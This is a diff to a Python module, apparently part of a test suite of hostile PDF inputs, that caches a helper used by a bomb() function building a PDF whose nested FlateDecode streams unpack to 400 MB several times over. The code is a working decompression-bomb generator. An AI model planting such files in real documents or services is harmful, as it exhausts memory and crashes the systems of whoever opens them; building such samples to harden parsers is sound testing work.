@@ -3,6 +3,7 @@
 import io
 import re
 import zlib
+from functools import cache
 
 import pikepdf
 
@@ -90,10 +91,15 @@ BYTES: tuple[Attack, ...] = (
 # --- files that are made to harm who opens them -----------------------------------------------
 
 
+@cache
+def _packed() -> bytes:
+    packer = zlib.compressobj(9)
+    return b"".join(packer.compress(b"0" * 1_000_000) for _ in range(400)) + packer.flush()
+
+
 def bomb(layers: int) -> bytes:
     """A PDF whose objects stand in a stream that unpacks to 400 MB, a few times over."""
-    packer = zlib.compressobj(9)
-    data = b"".join(packer.compress(b"0" * 1_000_000) for _ in range(400)) + packer.flush()
+    data = _packed()
     for _ in range(layers - 1):
         data = zlib.compress(data, 9)
     filters = b"/FlateDecode " * layers
